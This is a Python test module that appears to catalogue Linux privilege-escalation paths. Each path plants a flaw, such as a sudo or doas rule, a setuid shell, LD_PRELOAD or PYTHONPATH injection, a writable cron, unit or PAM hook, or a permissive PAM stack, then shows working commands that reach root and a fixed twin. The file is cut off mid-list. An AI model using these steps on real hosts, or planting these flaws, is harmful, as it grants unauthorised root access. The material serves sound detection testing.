"""Ways to root by what turns one user into another: sudo and doas, programs with the setuid bit or capabilities, and what root runs by itself.

sudo, doas and su are the real ones, which ask a PAM of this host's; what cron, a unit or the kernel would run is run by root as they say it.
"""

from hosts.planting import PYTHON, D, Plant, all_of, can, edit, engine, lines, members, over, setting, shell, without_alice, written
from hosts.rows_grants import PASSWORD
from hosts.rows_paths import ALICE_IN, CLOSED, CONNECTS, DAVE, EMPTIED, EVERYONE, SAYS, docker, own
from hosts.rows_root_programs import CRON_IS_THERE, PROGRAM, SCRIPT, SITE, UNIT, file, table, unit
from hosts.walking import PROVES, Walk, Way, asks, changes, cleaned, kept, logs_in, mapped, root_by, step, then
from real_engines.world import DOCKER_GID, USERS

RULES = "/etc/sudoers.d/own"
ASKS_PASSWORD = "auth required pam_unix.so\naccount required pam_permit.so\nsession required pam_permit.so\n"
PAM = shell(*(f"printf '{ASKS_PASSWORD}' > /etc/pam.d/{name}" for name in ("sudo", "doas")))
WITH_PASSWORDS = lines("shadow", *(f"{user}:{PASSWORD}:19000:0:99999:7:::" for user in USERS))
RUNS_AS = {"user:frank": ("runs-as",)}
OWN_PASSWORD = {"user:frank": ("certain own-password: runs-as",)}
BY_SUDO = root_by(step("frank", f"sudo -n sh -c '{PROVES}'"))
PRELOADED = '#include <fcntl.h>\\n__attribute__((constructor)) static void made(void) { creat("/run/proof", 0600); }\\n'
LIBRARY = shell(f"printf '{PRELOADED}' | gcc -shared -fPIC -x c - -o /run/own.so")
VARIABLES = f"{SITE}/variables"
JAIL = f"{SITE}/jail"
IN_JAIL = '#include <fcntl.h>\\n#include <sys/stat.h>\\nint main(void) { mkdir("/run", 0755); return creat("/run/proof", 0600) < 0; }\\n'
STATIC = shell(f"printf '{IN_JAIL}' | gcc -static -x c - -o /run/own", f"install -d -o carol {JAIL}")
LAYS_IN_JAIL = f"mkdir -p {JAIL}/usr/bin; cp /run/own {JAIL}/usr/bin/id"
IS_ROOTS = step("root", f'test "$(stat -c %u:%a {JAIL}/run/proof)" = 0:600')
OPT = "mount --no-mtab -t tmpfs -o mode=0755 tmpfs /opt"
GIVES = "executes gives"
BY_SHELL = f"-p -c '{PROVES}'"
WRITTEN = f"#!/bin/sh\n{PROVES}\n"
CAROLS = f"chgrp carol {SCRIPT}; chmod 0775 {SCRIPT}"
WRITES = {"user:carol": ("writes runs",)}
CRON = "sed -n 's/^[*] [*] [*] [*] [*] root //p' /etc/cron.d/site | env -i $(grep ^PATH= /etc/cron.d/site || echo PATH=/usr/bin:/bin) sh -e"
"""What cron runs as root by this table (crontab(5))."""
NOWHERE = " ".join(f"-o Dir::{name}" for name in ("Etc::sourcelist=/dev/null", "Etc::sourceparts=/dev/null", "State=/run/apt", "Cache=/run/apt"))
APT_UPDATE = f"mkdir -p /run/apt; apt-get update -qq {NOWHERE}"
CLOSES = f"chmod 0755 {SCRIPT}"
HOME = "mount --no-mtab -t tmpfs -o mode=0755 tmpfs /root; echo : > /root/.profile; chgrp carol /root/.profile; chmod 0664 /root/.profile"
PERHAPS_WRITES = {"user:carol": ("likely nothing: writes runs",)}
SBIN = shell("mount --no-mtab -t tmpfs -o mode=0755 tmpfs /usr/local/sbin")
TYPED = "/usr/local/sbin/report"
TYPES = "env -i $(sed -nE 's/^ENV_SUPATH[[:blank:]]+//p' /etc/login.defs | grep . || echo PATH=/usr/local/sbin:/usr/bin) sh -c report"
"""What happens where root, who logged in, types a name (login.defs(5))."""
TOOL = '#!/bin/bash\nset -euo pipefail\nlevel=5\n[ -n "$1" ] || exit 1\nexec nice -n "$level" "$@"'
INCUS = "/run/incus/unix.socket"
LOGS = f"{SITE}/logs"
OWN_LOGS = shell(f"install -d -o root -g carol -m 1775 {LOGS}")
ROOTS_SU = over("/etc/pam.d/su", "auth sufficient pam_rootok.so\naccount required pam_permit.so\nsession required pam_permit.so\n")
SUPERVISOR = f"{SITE}/supervisord.conf"
MODULES = "/etc/puppet/code/environments/production/modules"
PUPPET = file("/usr/local/sbin/puppet", f"#!/bin/sh\nset -e\nfor part in {MODULES}/*/init.pp; do sh $part; done")
"""Stands for Puppet, which runs what every module says."""


def sudoers(*rules: str) -> Plant:
    """Return the planting of rules of sudo's, in place of those that were there."""
    return all_of(PAM, WITH_PASSWORDS, shell(*(f"echo '{rule}' {'>>' if number else '>'} {RULES}" for number, rule in enumerate(rules)), f"chmod 0440 {RULES}"))


def doas(rule: str) -> Plant:
    """Return the planting of a rule of doas'."""
    return all_of(PAM, WITH_PASSWORDS, shell(f"echo '{rule}' > /etc/doas.conf; chmod 0400 /etc/doas.conf"))


def copy(program: str, path: str, change: str) -> Plant:
    """Return the planting of a copy of a program, and of a change to it."""
    return shell(OPT, f"cp -L {program} {path}", f"{change} {path}")


def writes(run: str, path: str = SCRIPT, text: str = WRITTEN, user: str = "carol") -> Walk:
    """Return the walk of who writes a file that is there, and of root, who runs it then."""
    return kept(root_by(changes(user, path, text), step("root", run)), path)


def puts(run: str, path: str) -> Walk:
    """Return the walk of carol, who puts a program where none is, and of root, who runs it then."""
    return cleaned(root_by(changes("carol", path, WRITTEN), step("root", run)), path)


ROBOT = all_of(lines("passwd", "robot:x:4050:4050::/nonexistent:/usr/sbin/nologin"), lines("shadow", "robot:!:19000::::::"), EMPTIED, docker("robot"))
"""An account that nobody can be by itself, in the group docker."""

BY_SUDO_WAYS = [
    Way(
        name="an editor by sudo that may start no program",
        plant=sudoers("frank ALL=(root) NOPASSWD: NOEXEC: /usr/bin/vi"),
        walk=root_by(step("frank", "umask 077; sudo -n vi -es -c 'w! /run/proof' -c 'q!' /etc/hostname")),
        certain=RUNS_AS,
        twin=sudoers("frank ALL=(root) NOPASSWD: NOEXEC: /usr/bin/id"),
    ),
    Way(
        name="a script of root's by sudo that runs what its caller says",
        plant=all_of(sudoers(f"frank ALL=(root) NOPASSWD: {SCRIPT}"), file(SCRIPT, TOOL)),
        walk=root_by(step("frank", f"sudo -n {SCRIPT} sh -c '{PROVES}'")),
        certain=RUNS_AS,
        twin=file(SCRIPT, f'#!/bin/bash\ncase "$1" in make) ;; *) exit 1 ;; esac\n{TOOL}'),
    ),
    Way(
        name="sudo without a password",
        plant=sudoers("frank ALL=(ALL) NOPASSWD: ALL"),
        walk=BY_SUDO,
        certain=RUNS_AS,
        twin=sudoers("frank ALL=(ALL) ALL"),
        left=OWN_PASSWORD,
    ),
    Way(
        name="sudo without a password for a group",
        plant=all_of(lines("group", "ops:x:4901:frank"), sudoers("%ops ALL=(ALL) NOPASSWD: ALL")),
        walk=BY_SUDO,
        certain=RUNS_AS,
        twin=edit("group", lambda text: text.replace("ops:x:4901:frank", "ops:x:4901:")),
    ),
    Way(
        name="sudo that is told to ask nobody",
        plant=sudoers("Defaults:frank !authenticate", "frank ALL=(ALL) ALL"),
        walk=BY_SUDO,
        certain=RUNS_AS,
        twin=sudoers("frank ALL=(ALL) ALL"),
        left=OWN_PASSWORD,
    ),
    Way(
        name="an editor by two aliases of sudo's",
        plant=sudoers("User_Alias OPS = carol, frank", "Cmnd_Alias EDIT = /usr/bin/less, /usr/bin/sed", "OPS ALL = NOPASSWD: EDIT"),
        walk=root_by(step("frank", f"sudo -n /usr/bin/sed -n '1e {PROVES}' /etc/passwd")),
        certain={"user:carol": ("runs-as",), "user:frank": ("runs-as",)},
        twin=sudoers("User_Alias OPS = carol, frank", "Cmnd_Alias EDIT = /usr/bin/uptime, /usr/bin/id", "OPS ALL = NOPASSWD: EDIT"),
    ),
    Way(
        name="docker by sudo",
        plant=all_of(CLOSED, sudoers("frank ALL = NOPASSWD: /usr/bin/docker, /usr/local/bin/docker")),
        walk=step("frank", f"sudo -n docker -H unix://{D} version --format '{{{{.Server.Version}}}}'"),
        certain=RUNS_AS,
        twin=sudoers("frank ALL = NOPASSWD: /usr/bin/docker ps, /usr/local/bin/docker ps"),
    ),
    Way(
        name="sudo as a member of docker",
        plant=all_of(EMPTIED, docker("carol"), sudoers("frank ALL = (carol) NOPASSWD: ALL")),
        walk=step("frank", f"sudo -n -u carol /usr/bin/python3 -I /run/asks {D}"),
        certain={"user:carol": (CONNECTS,), "user:frank": (f"runs-as {CONNECTS}",)},
        twin=docker(),
    ),
    Way(
        name="an account without a login that a rule of sudo lets somebody be",
        plant=all_of(ROBOT, sudoers("frank ALL = (robot) NOPASSWD: ALL")),
        walk=step("frank", f"sudo -n -u robot /usr/bin/python3 -I /run/asks {D}"),
        certain={"user:robot": (CONNECTS,), "user:frank": (f"runs-as {CONNECTS}",)},
        twin=sudoers("frank ALL = NOPASSWD: /usr/bin/id"),
    ),
    Way(
        name="a variable that sudo keeps",
        plant=all_of(LIBRARY, sudoers("Defaults:frank env_keep += LD_PRELOAD", "frank ALL = NOPASSWD: /usr/bin/id")),
        walk=root_by(step("frank", "sudo -n LD_PRELOAD=/run/own.so /usr/bin/id")),
        certain=RUNS_AS,
        twin=sudoers("frank ALL = NOPASSWD: /usr/bin/id"),
    ),
    Way(
        name="a program with the digest that the rule of sudo asks for",
        plant=all_of(
            sudoers("frank ALL = NOPASSWD: sha256:DIGEST /usr/bin/env"),
            shell(f"sed -i \"s/DIGEST/$(sha256sum /usr/bin/env | cut -d ' ' -f 1)/\" {RULES}"),
        ),
        walk=root_by(step("frank", f"sudo -n /usr/bin/env {PROVES}")),
        certain=RUNS_AS,
        twin=shell(f"sed -i 's/sha256:..../sha256:0000/' {RULES}"),
    ),
    Way(
        name="a program that a rule of sudo forbids with the digest of another",
        plant=sudoers(f"frank ALL = NOPASSWD: /usr/bin/env, sha256:{'0' * 64} !/usr/bin/env"),
        walk=root_by(step("frank", f"sudo -n /usr/bin/env {PROVES}")),
        certain=RUNS_AS,
        twin=shell(f"sed -i \"s/sha256:0*/sha256:$(sha256sum /usr/bin/env | cut -d ' ' -f 1)/\" {RULES}"),
    ),
    Way(
        name="a directory in a rule of sudo",
        plant=sudoers("frank ALL = NOPASSWD: /usr/bin/"),
        walk=root_by(step("frank", f"sudo -n /usr/bin/env {PROVES}")),
        certain=RUNS_AS,
        twin=sudoers(f"frank ALL = NOPASSWD: sha256:{'0' * 64} /usr/bin/"),
    ),
    Way(
        name="a variable that sudo keeps and Python reads",
        plant=all_of(
            shell(f"mkdir -p {SITE}; printf '#!/usr/bin/python3\\n' > {SITE}/tool; chmod 0755 {SITE}/tool"),
            sudoers("Defaults:frank env_keep += PYTHONPATH", f"frank ALL = NOPASSWD: {SITE}/tool"),
        ),
        walk=cleaned(
            root_by(
                changes("frank", "{home}/frank/sitecustomize.py", 'import os; os.open("/run/proof", os.O_CREAT, 0o600)'),
                step("frank", f"sudo -n PYTHONPATH={{home}}/frank {SITE}/tool"),
            ),
            "{home}/frank/sitecustomize.py",
        ),
        certain=RUNS_AS,
        twin=shell(f"sed -i '1s/$/ -I/' {SITE}/tool"),
        left={"user:frank": ("likely nothing: runs-as",)},
    ),
    Way(
        name="a file of variables for sudo that a user may write",
        plant=all_of(
            *(LIBRARY, shell(f"mkdir -p {SITE}; touch {VARIABLES}; chown carol {VARIABLES}")),
            sudoers(f"Defaults env_file={VARIABLES}", "frank ALL = NOPASSWD: /usr/bin/id"),
        ),
        walk=kept(root_by(step("carol", f"echo LD_PRELOAD=/run/own.so > {VARIABLES}"), step("frank", "sudo -n /usr/bin/id")), VARIABLES),
        certain=WRITES,
        twin=shell(f"chown root {VARIABLES}"),
    ),
    Way(
        name="a root directory for sudo that a user may write to",
        plant=all_of(STATIC, sudoers(f"Defaults runchroot={JAIL}", "frank ALL = NOPASSWD: /usr/bin/id")),
        walk=cleaned(then(step("carol", LAYS_IN_JAIL), step("frank", "sudo -n /usr/bin/id"), IS_ROOTS), f"{JAIL}/usr", f"{JAIL}/run"),
        certain=WRITES,
        twin=shell(f"chown root {JAIL}"),
    ),
    Way(
        name="a root directory that a rule of sudo's lets be chosen",
        plant=all_of(STATIC, shell(LAYS_IN_JAIL), sudoers("frank ALL = CHROOT=* NOPASSWD: /usr/bin/id")),
        walk=cleaned(then(step("frank", f"sudo -n -R {JAIL} /usr/bin/id"), IS_ROOTS), f"{JAIL}/run"),
        certain=RUNS_AS,
        twin=sudoers("frank ALL = NOPASSWD: /usr/bin/id"),
    ),
    Way(
        name="a variable that a rule of sudo's lets be set",
        plant=all_of(LIBRARY, sudoers("frank ALL = NOPASSWD: SETENV: /usr/bin/id")),
        walk=root_by(step("frank", "sudo -n LD_PRELOAD=/run/own.so /usr/bin/id")),
        certain=RUNS_AS,
        twin=sudoers("frank ALL = NOPASSWD: NOSETENV: /usr/bin/id"),
    ),
    Way(
        name="a program that sudo runs and its user may write",
        plant=all_of(file(SCRIPT, PROGRAM, f"chown frank {SCRIPT}"), sudoers(f"frank ALL = NOPASSWD: {SCRIPT}")),
        walk=kept(root_by(changes("frank", SCRIPT, WRITTEN), step("frank", f"sudo -n {SCRIPT}")), SCRIPT),
        certain={"user:frank": ("writes runs",)},
        twin=shell(f"chown root {SCRIPT}"),
    ),
    Way(
        name="a program that sudo runs and another may write",
        plant=all_of(file(SCRIPT, PROGRAM, CAROLS), sudoers(f"Cmnd_Alias JOBS = {SCRIPT}", "frank ALL = NOPASSWD: JOBS")),
        walk=kept(root_by(changes("carol", SCRIPT, WRITTEN), step("frank", f"sudo -n {SCRIPT}")), SCRIPT),
        certain=WRITES,
        twin=shell(CLOSES),
    ),
    Way(
        name="a script that a shell runs by sudo and its user may write",
        plant=all_of(file(SCRIPT, PROGRAM, f"chown frank {SCRIPT}"), sudoers(f"frank ALL = NOPASSWD: /bin/bash {SCRIPT}")),
        walk=kept(root_by(changes("frank", SCRIPT, WRITTEN), step("frank", f"sudo -n /bin/bash {SCRIPT}")), SCRIPT),
        certain={"user:frank": ("writes runs",)},
        twin=shell(f"chown root {SCRIPT}"),
    ),
    Way(
        name="a directory whose programs sudo runs, with one that its user may write",
        plant=all_of(file(SCRIPT, PROGRAM, f"chown frank {SCRIPT}"), sudoers(f"frank ALL = NOPASSWD: {SCRIPT.rpartition('/')[0]}/")),
        walk=kept(root_by(changes("frank", SCRIPT, WRITTEN), step("frank", f"sudo -n {SCRIPT}")), SCRIPT),
        certain={"user:frank": ("writes runs",)},
        twin=shell(f"chown root {SCRIPT}"),
    ),
    Way(
        name="a shell that sudo starts with arguments",
        plant=sudoers("frank ALL = NOPASSWD: /bin/bash -i"),
        walk=root_by(step("frank", f"echo '{PROVES}' | sudo -n /bin/bash -i")),
        certain=RUNS_AS,
        twin=sudoers("frank ALL = NOPASSWD: /bin/bash --version"),
    ),
    Way(
        name="a pattern of sudo's that matches a shell",
        plant=sudoers("frank ALL = NOPASSWD: /usr/bin/[a-z]*"),
        walk=root_by(step("frank", f"sudo -n /usr/bin/bash -c '{PROVES}'")),
        certain=RUNS_AS,
        twin=sudoers("frank ALL = NOPASSWD: /usr/bin/[a-z]*nothing"),
    ),
    Way(
        name="sudo with one's own password",
        plant=sudoers("frank ALL=(ALL) ALL"),
        walk=root_by(lambda world: can(world, "frank", *PYTHON, SAYS, "sudo", "sh", "-c", PROVES)),
        other=OWN_PASSWORD,
        twin=shell(f"rm {RULES}"),
    ),
    Way(
        name="a user's own engine, whose user has sudo",
        plant=all_of(own, sudoers("erin ALL=(ALL) NOPASSWD: ALL")),
        walk=root_by(step("erin", f"sudo -n sh -c '{PROVES}'")),
        certain={"user:erin": ("runs-as",)},
        twin=sudoers("erin ALL=(ALL) ALL"),
        left={"user:erin": ("certain own-password: runs-as",)},
        rootless={"erin": ("fail", "pass")},
    ),
    Way(
        name="a uid range with somebody who has sudo",
        plant=all_of(lines("subuid", f"frank:{DAVE}:1"), sudoers("dave ALL=(ALL) NOPASSWD: ALL")),
        walk=cleaned(
            root_by(mapped("frank", DAVE, "/bin/sh", "-ec", f"echo \"sudo -n sh -c '{PROVES}'\" > {{home}}/dave/.profile"), logs_in("dave")),
            "{home}/dave/.profile",
        ),
        certain={"user:dave": ("runs-as",), "user:frank": ("maps runs-as",)},
        twin=sudoers("dave ALL=(ALL) ALL"),
        left={"user:dave": ("certain own-password: runs-as",), "user:frank": ("certain other-secret: maps runs-as",)},
    ),
]
BY_DOAS_WAYS = [
    Way(
        name="doas without a password",
        plant=doas("permit nopass frank"),
        walk=root_by(step("frank", f"doas -n sh -c '{PROVES}'")),
        certain=RUNS_AS,
        twin=doas("permit frank"),
        left=OWN_PASSWORD,
    ),
    Way(
        name="a program that doas runs and its user may write",
        plant=all_of(file(SCRIPT, PROGRAM, f"chown frank {SCRIPT}"), doas(f"permit nopass frank as root cmd {SCRIPT}")),
        walk=kept(root_by(changes("frank", SCRIPT, WRITTEN), step("frank", f"doas -n {SCRIPT}")), SCRIPT),
        certain={"user:frank": ("writes runs",)},
        twin=shell(f"chown root {SCRIPT}"),
    ),
    Way(
        name="a shell that doas starts with arguments",
        plant=doas("permit nopass frank as root cmd bash args -i"),
        walk=root_by(step("frank", f"echo '{PROVES}' | doas -n bash -i")),
        certain=RUNS_AS,
        twin=doas("permit nopass frank as root cmd bash args --version"),
    ),
]
"""Where doas is installed: there is none in some distributions."""
BY_SETUID_WAYS = [
    Way(
        name="a setuid copy of a shell",
        plant=copy("/bin/bash", "/opt/own", "chmod 4755"),
        walk=root_by(step("nobody", f"/opt/own {BY_SHELL}")),
        certain={EVERYONE: (GIVES,)},
        twin=shell("mount --no-mtab -o remount,nosuid /opt"),
    ),
    Way(
        name="a setuid copy of a shell in a home",
        plant=shell("cp -L /bin/bash {home}/dave/.own; chmod 4755 {home}/dave/.own"),
        walk=root_by(step("dave", f"{{home}}/dave/.own {BY_SHELL}")),
        certain={"user:dave": (GIVES,)},
        twin=shell("chmod 0755 {home}/dave/.own"),
    ),
    Way(
        name="a setuid copy of a shell for a group",
        plant=copy("/bin/bash", "/opt/own", "chgrp carol /opt/own; chmod 4750"),
        walk=root_by(step("carol", f"/opt/own {BY_SHELL}")),
        certain={"user:carol": (GIVES,)},
        twin=shell("chgrp root /opt/own; chmod 4750 /opt/own"),
    ),
    Way(
        name="a setuid copy of a shell of a member of docker",
        plant=all_of(ALICE_IN, copy("/bin/bash", "/opt/own", "chown alice /opt/own; chmod 4755")),
        walk=cleaned(
            then(
                step("frank", f"/opt/own -p -c 'echo \"/usr/bin/python3 -I /run/asks {D} && touch ~/asked\" > {{home}}/alice/.profile'"),
                logs_in("alice"),
                step("alice", "test -e {home}/alice/asked"),
            ),
            "{home}/alice/.profile",
            "{home}/alice/asked",
        ),
        certain={"user:alice": (CONNECTS,), EVERYONE: (f"{GIVES} {CONNECTS}",)},
        twin=without_alice,
    ),
    Way(
        name="a copy of Python with a capability",
        plant=copy("/usr/bin/python3", "/opt/own", "setcap cap_setuid=ep"),
        walk=root_by(step("nobody", f"/opt/own -I -c 'import os; os.setuid(0); os.system(\"{PROVES}\")'")),
        certain={EVERYONE: (GIVES,)},
        twin=shell("setcap -r /opt/own"),
    ),
    Way(
        name="a copy of Python with docker's group",
        plant=all_of(EMPTIED, copy("/usr/bin/python3", "/opt/own", f"chgrp {DOCKER_GID} /opt/own; setfacl -m u:carol:x /opt/own; chmod 2710")),
        walk=step("carol", f"/opt/own -I /run/asks {D}"),
        certain={"user:carol": (CONNECTS,)},
        twin=shell("chmod 0710 /opt/own"),
    ),
    Way(
        name="a socket of Incus with a group",
        plant=engine(INCUS, mode=0o660, group=4003),
        walk=asks("carol", INCUS),
        certain={"user:carol": (CONNECTS,)},
        twin=shell(f"chgrp root {INCUS}"),
    ),
]
BY_ROOT_WAYS = [
    Way(
        name="a script of root's cron",
        plant=all_of(table(SCRIPT), file(SCRIPT, PROGRAM, CAROLS)),
        walk=writes(CRON),
        certain=WRITES,
        twin=shell(CLOSES),
    ),
    Way(
        name="a uid range with the owner of a script of root's cron",
        plant=all_of(table(SCRIPT), file(SCRIPT, PROGRAM, f"chown dave {SCRIPT}"), lines("subuid", f"frank:{DAVE}:1")),
        walk=kept(root_by(mapped("frank", DAVE, "/bin/sh", "-ec", f"echo '{PROVES}' > {SCRIPT}"), step("root", CRON)), SCRIPT),
        certain={"user:dave": ("writes runs",), "user:frank": ("maps writes runs",)},
        twin=shell(f"chown root {SCRIPT}"),
    ),
    Way(
        name="a command of apt's that runs a program of a user's",
        plant=all_of(file(SCRIPT, PROGRAM, CAROLS), shell(f"echo 'APT::Update::Pre-Invoke {{\"{SCRIPT}\";}};' > /etc/apt/apt.conf.d/90site")),
        walk=writes(APT_UPDATE),
        certain=WRITES,
        twin=shell(CLOSES),
    ),
    Way(
        name="a part of cron.daily",
        plant=all_of(CRON_IS_THERE, file("/etc/cron.daily/own", PROGRAM, "chgrp carol /etc/cron.daily/own; chmod 0775 /etc/cron.daily/own")),
        walk=root_by(
            step("carol", f"for path in /etc/cron.daily/own*; do printf '%s' '{WRITTEN}' > $path; done"),
            step("root", "mkdir -p /run/daily; cp -a /etc/cron.daily/own* /run/daily; run-parts /run/daily; rm -r /run/daily"),
        ),
        certain=WRITES,
        twin=shell("mv /etc/cron.daily/own /etc/cron.daily/own.sh; rm -rf /run/daily"),
    ),
    Way(
        name="a directory that root's cron searches",
        plant=all_of(table("report", f"PATH={SITE}/bin:/usr/bin:/bin"), shell(f"mkdir -p {SITE}/bin; chgrp carol {SITE}/bin; chmod 2775 {SITE}/bin")),
        walk=puts(CRON, f"{SITE}/bin/report"),
        certain=WRITES,
        twin=shell(f"chmod 0755 {SITE}/bin"),
    ),
    Way(
        name="a file that a script of root's cron reads",
        plant=all_of(
            table(SCRIPT),
            file(SCRIPT, f"#!/bin/sh\n. {SITE}/settings"),
            file(f"{SITE}/settings", ":", f"chgrp carol {SITE}/settings; chmod 0664 {SITE}/settings"),
        ),
        walk=writes(CRON, f"{SITE}/settings", PROVES),
        certain=WRITES,
        twin=shell(f"chmod 0644 {SITE}/settings"),
    ),
    Way(
        name="a program that a script of root's cron looks for in vain",
        plant=all_of(
            table(SCRIPT), file(SCRIPT, f"#!/bin/sh\n{SITE}/jobs/run"), shell(f"mkdir -p {SITE}/jobs; chgrp carol {SITE}/jobs; chmod 2775 {SITE}/jobs")
        ),
        walk=puts(CRON, f"{SITE}/jobs/run"),
        certain=WRITES,
        twin=shell(f"chmod 0755 {SITE}/jobs"),
    ),
    Way(
        name="a program of a unit",
        plant=all_of(unit(f"ExecStart={SCRIPT}"), file(SCRIPT, PROGRAM, CAROLS)),
        walk=writes(f"$(sed -n s/^ExecStart=//p {UNIT})"),
        certain=WRITES,
        twin=shell(CLOSES),
    ),
    Way(
        name="a log in a user's directory that root's cron opens for the user's program",
        plant=all_of(ROOTS_SU, table(f"su carol -s /bin/sh -c {SCRIPT} >> {LOGS}/dump.log 2>&1"), file(SCRIPT, PROGRAM), OWN_LOGS),
        walk=cleaned(root_by(step("carol", f"ln -s /run/proof {LOGS}/dump.log"), step("root", f"umask 077; {CRON}")), f"{LOGS}/dump.log"),
        certain=WRITES,
        twin=table(f"su carol -s /bin/sh -c '{SCRIPT} >> {LOGS}/dump.log 2>&1'"),
    ),
    Way(
        name="a program that supervisord runs as root",
        plant=all_of(
            unit(f"ExecStart=/usr/bin/supervisord -n -c {SUPERVISOR}"), file(SUPERVISOR, f"[program:own]\ncommand={SCRIPT}"), file(SCRIPT, PROGRAM, CAROLS)
        ),
        walk=writes(f"if ! grep -q ^user= {SUPERVISOR}; then $(sed -n s/^command=//p {SUPERVISOR}); fi"),
        certain=WRITES,
        twin=shell(f"echo user=carol >> {SUPERVISOR}"),
    ),
    Way(
        name="modules of Puppet's where root's cron applies them",
        plant=all_of(
            table("puppet apply /etc/site.pp", "PATH=/usr/local/sbin:/usr/bin:/bin"),
            PUPPET,
            shell(f"mkdir -p {MODULES}/own; chgrp carol {MODULES}/own; chmod 2775 {MODULES}/own"),
        ),
        walk=cleaned(root_by(step("carol", f"printf '%s' '{WRITTEN}' > {MODULES}/own/init.pp"), step("root", CRON)), f"{MODULES}/own/init.pp"),
        certain=WRITES,
        twin=shell(f"chmod 0755 {MODULES}/own"),
    ),
    Way(
        name="a handler of crashes",
        plant=all_of(setting("kernel.core_pattern", f"|{SCRIPT} %p"), file(SCRIPT, PROGRAM, CAROLS)),
        walk=writes("$(sed 's/^|//' /proc/sys/kernel/core_pattern)"),
        certain=WRITES,
        twin=shell(CLOSES),
    ),
    Way(
        name="a program that the kernel is told to run first",
        plant=all_of(over("/proc/cmdline", f"BOOT_IMAGE=/vmlinuz ro init={SCRIPT}\n"), file(SCRIPT, PROGRAM, CAROLS)),
        walk=writes("$(sed -n 's/.* init=//p' /proc/cmdline)"),
        certain=WRITES,
        twin=shell(CLOSES),
    ),
    Way(
        name="a program that PAM runs",
        plant=all_of(
            file("/etc/pam.d/su", f"auth sufficient pam_rootok.so\naccount required pam_permit.so\nsession required pam_exec.so {SCRIPT}"),
            file(SCRIPT, PROGRAM, CAROLS),
        ),
        walk=writes("su -s /bin/true"),
        certain=WRITES,
        twin=shell(CLOSES),
    ),
    Way(
        name="root's profile",
        plant=shell(HOME),
        walk=writes("HOME=/root bash -lc :", "/root/.profile", PROVES),
        certain=WRITES,
        twin=shell("chmod 0644 /root/.profile"),
    ),
    Way(
        name="a part of everybody's profile",
        plant=file("/etc/profile.d/own.sh", ":", "chgrp carol /etc/profile.d/own.sh; chmod 0664 /etc/profile.d/own.sh"),
        walk=writes("HOME=/nowhere bash -lc :", "/etc/profile.d/own.sh", PROVES),
        certain=WRITES,
        twin=shell("chmod 0644 /etc/profile.d/own.sh"),
    ),
    Way(
        name="a program in root's PATH that nothing names",
        plant=all_of(SBIN, file(TYPED, PROGRAM, f"chgrp carol {TYPED}; chmod 0775 {TYPED}")),
        walk=writes(TYPES, TYPED),
        other=PERHAPS_WRITES,
        twin=shell(f"chmod 0755 {TYPED}"),
    ),
    Way(
        name="a link in root's PATH to a program that a user may write",
        plant=all_of(SBIN, file(SCRIPT, PROGRAM, CAROLS), shell(f"ln -s {SCRIPT} {TYPED}")),
        walk=writes(TYPES),
        other=PERHAPS_WRITES,
        twin=shell(CLOSES),
    ),
    Way(
        name="a link in root's PATH to a program that is not there",
        plant=all_of(SBIN, shell(f"mkdir -p {SITE}/jobs; chgrp carol {SITE}/jobs; chmod 2775 {SITE}/jobs; ln -s {SITE}/jobs/run {TYPED}")),
        walk=puts(TYPES, f"{SITE}/jobs/run"),
        other=PERHAPS_WRITES,
        twin=shell(f"chmod 0755 {SITE}/jobs"),
    ),
]
SU = shell("printf 'auth required pam_unix.so nullok\\naccount required pam_permit.so\\nsession required pam_permit.so\\n' > /etc/pam.d/su")
SPOOL = "mount --no-mtab -t tmpfs -o mode=0755 tmpfs /var/spool; mkdir -p /var/spool/cron/crontabs"
START = "{home}/alice/.bash_profile"


def password(field: str) -> Plant:
    """Return the planting of what stands for frank's password (shadow(5))."""
    return all_of(shell("sed -i /^frank:/d /etc/shadow"), lines("shadow", f"frank:{field}:19000:0:99999:7:::"))


def stack(service: str, *before: str) -> Plant:
    """Return the planting of what PAM asks at a service, before what it asks usually (pam.conf(5))."""
    return over(f"/etc/pam.d/{service}", "".join(f"{line}\n" for line in (*before, "auth sufficient pam_rootok.so", *USUAL_PAM)))


BY_PAM = root_by(step("frank", f"sudo sh -c '{PROVES}'"))
USUAL_PAM = ("@include common-auth", "account required pam_permit.so", "session required pam_permit.so")
TRUSTS = "auth sufficient pam_wheel.so trust group=staff"
IN_A_LIST = "auth sufficient pam_listfile.so item=ruser sense=allow file=/etc/su-admins onerr=fail"
BY_PAM_WAYS = [
    Way(
        name="sudo without a password for an account that is locked",
        plant=all_of(sudoers("frank ALL=(ALL) NOPASSWD: ALL"), password("!*")),
        walk=BY_SUDO,
        certain=RUNS_AS,
        twin=all_of(sudoers("frank ALL=(ALL) ALL"), password("!*")),
    ),
    Way(
        name="sudo with one's own password, which is empty",
        plant=all_of(sudoers("frank ALL=(ALL) ALL"), password(""), stack("sudo"), stack("su")),
        walk=then(BY_PAM, root_by(step("dave", f"su frank -c \"sudo sh -c '{PROVES}'\""))),
        certain={EVERYONE: ("becomes runs-as",), **RUNS_AS},
        twin=all_of(password("*"), shell("rm -r /run/sudo")),
    ),
    Way(
        name="sudo whose PAM lets everybody in",
        plant=all_of(sudoers("frank ALL=(ALL) ALL"), password("!"), stack("sudo", "auth sufficient pam_permit.so")),
        walk=BY_PAM,
        certain=RUNS_AS,
        twin=all_of(stack("sudo", "auth optional pam_permit.so"), shell("rm -r /run/sudo")),
    ),
    Way(
        name="sudo whose PAM lets a group in",
        plant=all_of(members("staff", ["frank"]), sudoers("frank ALL=(ALL) ALL"), stack("sudo", TRUSTS)),
        walk=BY_PAM,
        certain=RUNS_AS,
        twin=all_of(members("staff", ["carol"]), shell("rm -r /run/sudo")),
        left=OWN_PASSWORD,
    ),
    Way(
        name="su that lets everybody in",
        plant=stack("su", "auth sufficient pam_permit.so"),
        walk=root_by(step("dave", f"su -c '{PROVES}'")),
        certain={EVERYONE: ("becomes",)},
        twin=stack("su", "auth optional pam_permit.so"),
    ),
    Way(
        name="su that trusts a group",
        plant=all_of(members("staff", ["carol"]), stack("su", TRUSTS)),
        walk=root_by(step("carol", f"su -c '{PROVES}'")),
        certain={"user:carol": ("becomes",)},
        twin=stack("su", TRUSTS.replace("trust ", "")),
    ),
    Way(
        name="su that trusts users in a list",
        plant=all_of(over("/etc/su-admins", "ann\ncarol\n"), stack("su", IN_A_LIST)),
        walk=root_by(step("carol", f"su -c '{PROVES}'")),
        certain={"user:carol": ("becomes",)},
        twin=stack("su", IN_A_LIST.replace("sufficient", "required")),
    ),
    Way(
        name="su that trusts users in a list that a user may write",
        plant=all_of(over("/etc/su-admins", "ann\n"), shell("chown carol /etc/su-admins"), stack("su", IN_A_LIST)),
